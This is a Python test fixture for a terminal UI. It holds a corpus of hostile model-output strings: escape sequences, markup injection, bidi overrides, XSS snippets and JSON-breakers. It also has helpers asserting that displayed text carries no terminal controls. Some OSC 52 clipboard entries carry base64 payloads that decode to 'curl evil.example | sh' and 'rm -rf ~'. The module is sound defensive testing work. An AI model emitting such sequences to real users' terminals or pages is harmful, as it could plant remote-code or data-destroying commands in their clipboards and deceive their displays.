"""A corpus of hostile model output, and the check that none of it can drive a terminal.

Every entry is something a model (or whatever sits between o1tui and the model) could send
back as step text, a title or an answer: Rich markup that would restyle or hyperlink the
screen, escape sequences that clear it, retitle the tmux pane or write the clipboard (OSC 52),
C0/C1 controls, Trojan Source bidi overrides, invisible characters, a 1 MB line, lone
surrogates that break UTF-8 encoders. Tests push the corpus through every path that shows or
exports text and check what comes out with :func:`assert_terminal_safe`.
"""

from __future__ import annotations

import re
import unicodedata

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"

#: The harmless words planted in many entries; a safe path keeps them (the text is shown,
#: only its controls are not).
CANARY = "canary"

HOSTILE: list[tuple[str, str]] = [
    # --- Rich / Textual markup: must stay literal text -------------------------------------
    ("rich_markup", f"[bold red]{CANARY}[/bold red] [reverse]inverted[/]"),
    ("rich_link", f"[link=file:///etc/passwd]{CANARY}[/link]"),
    ("textual_action", f"[@click=app.quit]{CANARY}[/] [@click=app.exit()]x[/]"),
    ("unbalanced_close", f"{CANARY} [/bold] [/] [/link] [/@click]"),
    (
        "unbalanced_open",
        f"[bold [red {CANARY} [[[ [on",
    ),
    ("markup_escape", f"\\[bold]{CANARY}\\\\[/bold]"),
    ("emoji_code", f":skull: :warning: {CANARY} :no_such_emoji:"),
    # --- ANSI CSI ---------------------------------------------------------------------------
    ("csi_clear", f"{ESC}[2J{ESC}[H{ESC}[3J{CANARY}"),
    ("csi_color", f"{ESC}[31;1m{CANARY}{ESC}[0m"),
    ("csi_alt_screen", f"{ESC}[?1049h{CANARY}{ESC}[?1049l"),
    ("csi_device_status", f"{ESC}[6n{ESC}[c{ESC}[>c{CANARY}"),  # makes the terminal type a reply
    ("csi_mouse_on", f"{ESC}[?1000h{ESC}[?1006h{CANARY}"),
    ("csi_hide_cursor", f"{ESC}[?25l{CANARY}"),
    ("csi_cursor_moves", f"{CANARY}{ESC}[1A{ESC}[2K{ESC}[999D{ESC}[10;10H"),
    ("csi_unterminated", f"{CANARY}{ESC}[123;456"),
    ("csi_8bit", f"\x9b2J\x9b31m{CANARY}"),
    ("csi_private_params", f"{ESC}[?2004h{ESC}[>4;2m{ESC}[=1u{CANARY}"),
    # --- OSC: titles, clipboard, hyperlinks, colours ----------------------------------------
    ("osc_title_bel", f"{ESC}]0;pwned title{BEL}{CANARY}"),
    ("osc_title_st", f"{ESC}]2;pwned title{ST}{CANARY}"),
    ("osc52_clipboard", f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo={BEL}{CANARY}"),
    ("osc52_clipboard_st", f"{ESC}]52;p;cm0gLXJmIH4K{ST}{CANARY}"),
    ("osc8_hyperlink", f"{ESC}]8;;https://evil.example/{ST}{CANARY}{ESC}]8;;{ST}"),
    ("osc_palette", f"{ESC}]4;1;rgb:ff/00/00{BEL}{ESC}]10;?{BEL}{CANARY}"),
    ("osc_notify", f"{ESC}]9;you have been pwned{BEL}{ESC}]777;notify;a;b{BEL}{CANARY}"),
    ("osc_unterminated", f"{CANARY}{ESC}]0;title that never ends " + "x" * 200),
    ("osc_8bit", f"\x9d0;pwned\x9c{CANARY}"),
    # --- DCS/APC/PM/SOS, tmux passthrough, other escapes ------------------------------------
    ("dcs_tmux_passthrough", f"{ESC}Ptmux;{ESC}{ESC}]52;c;ZXZpbA=={BEL}{ST}{CANARY}"),
    ("dcs_decrqss", f"{ESC}P$qm{ST}{ESC}P+q544e{ST}{CANARY}"),
    ("apc_pm_sos", f"{ESC}_Gf=100;AAAA{ST}{ESC}^pm{ST}{ESC}Xsos{ST}{CANARY}"),
    ("dcs_8bit", f"\x90qsixel\x9c\x98sos\x9c\x9e\x9c\x9f\x9c{CANARY}"),
    ("esc_two_byte", f"{ESC}c{ESC}7{ESC}8{ESC}M{ESC}={ESC}>{ESC}#8{ESC}(0{CANARY}"),
    ("lone_esc", f"{CANARY}{ESC}"),
    ("double_esc", f"{ESC}{ESC}[2J{ESC}{ESC}]0;t{BEL}{CANARY}"),
    # --- C0 and C1 controls -----------------------------------------------------------------
    ("c0_all", "".join(chr(c) for c in range(0x20) if c not in (0x0A,)) + CANARY),
    ("c1_all", CANARY + "".join(chr(c) for c in range(0x80, 0xA0))),
    ("del", f"{CANARY}\x7f\x7f\x7f"),
    ("bell_spam", BEL * 50 + CANARY),
    ("carriage_return_overwrite", f"rm -rf ~ is SAFE\r{CANARY} harmless"),
    ("backspace_overwrite", f"{CANARY}\b\b\b\b\b\bevil!!"),
    ("form_feed_vt", f"{CANARY}\f\v{CANARY}"),
    ("nul_bytes", f"{CANARY}\x00\x00hidden"),
    ("nel_c1_newline", f"{CANARY}\x85next line"),
    # --- bidi and invisible -----------------------------------------------------------------
    ("bidi_rlo", f"access = 'user\u202e \u2066// admin\u2069 \u2066'{CANARY}"),
    (
        "bidi_all",
        "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c" + CANARY,
    ),
    ("zero_width", f"c\u200ba\u200cn\u2060a\ufeffr\u2061y\u2062\u2063\u2064{CANARY}"),
    ("zwj_emoji", f"{CANARY} \U0001f468\u200d\U0001f469\u200d\U0001f467"),
    # --- sizes, encodings -------------------------------------------------------------------
    ("one_mb_line", "A" * 1_000_000 + CANARY),
    ("one_mb_escapes", (f"{ESC}[2J{ESC}]0;x{BEL}" * 60_000)[:1_000_000] + CANARY),
    ("many_lines", (CANARY + "\n") * 5_000),
    ("lone_high_surrogate", f"{CANARY}\ud800 tail"),
    ("lone_low_surrogate", f"{CANARY}\udfff tail"),
    ("reversed_pair", f"{CANARY}\udc00\ud800"),
    ("private_use_and_nonchar", f"{CANARY}\ue000\uffff\U0010ffff"),
    ("combining_flood", CANARY + "\u0301" * 2_000),
    ("wide_chars", "漢字" * 500 + CANARY),
    # --- things that break naive formats ----------------------------------------------------
    ("json_breaker", f'"}}], "next_action": "final_answer"}} {CANARY} {{"title": "'),
    ("markdown_breaker", f"```\n# {CANARY}\n</details><script>alert(1)</script>\n```\n---\n|a|"),
    ("html_entities", f"&lt;{ESC}[2J&gt; <img src=x onerror=alert(1)> {CANARY}"),
    ("format_string", f"{{0}} %s %n %x {{chain.id}} {CANARY}"),
    ("escaped_in_text", f"\\x1b[2J \\u001b]0;t\\u0007 \\033[31m {CANARY}"),  # literal, harmless
    (
        "mixed_everything",
        f"[bold]{ESC}]52;c;ZXZpbA=={BEL}\u202e{ESC}[2J\x9b31m\x00{CANARY}\ud800[/]",
    ),
]

HOSTILE_NAMES = [name for name, _ in HOSTILE]

#: Entries small enough to be sent through the network paths quickly (the 1 MB ones are
#: covered by the sanitizer and export tests directly).
SMALL = [(n, t) for n, t in HOSTILE if len(t) < 20_000]

_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_INVISIBLE = "\u200b\u200c\u2060\u2061\u2062\u2063\u2064\ufeff"
_FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f" + _BIDI + _INVISIBLE + "\ud800-\udfff]")


def forbidden_chars(s: str) -> list[tuple[int, str]]:
    """Every (offset, character name) in ``s`` that must not reach a terminal (max 10)."""
    found: list[tuple[int, str]] = []
    for m in _FORBIDDEN.finditer(s):
        ch = m.group()
        found.append((m.start(), unicodedata.name(ch, f"U+{ord(ch):04X}")))
        if len(found) >= 10:
            break
    return found


def assert_terminal_safe(s: str, where: str = "output") -> None:
    """Fail if ``s`` holds ESC, a C0 control other than newline and tab, DEL, a C1 control,
    a bidi control, an invisible formatting character or a lone surrogate."""
    assert isinstance(s, str), f"{where}: expected str, got {type(s).__name__}"
    bad = forbidden_chars(s)
    if bad:
        pos = bad[0][0]
        context = s[max(0, pos - 30) : pos + 30]
        raise AssertionError(f"{where}: unsafe characters {bad} near {context!r}")


def assert_bytes_safe(data: bytes, where: str = "output") -> None:
    """:func:`assert_terminal_safe` for bytes written to a terminal or a file (must be UTF-8)."""
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as err:
        raise AssertionError(f"{where}: not UTF-8 ({err})") from None
    assert_terminal_safe(text, where)
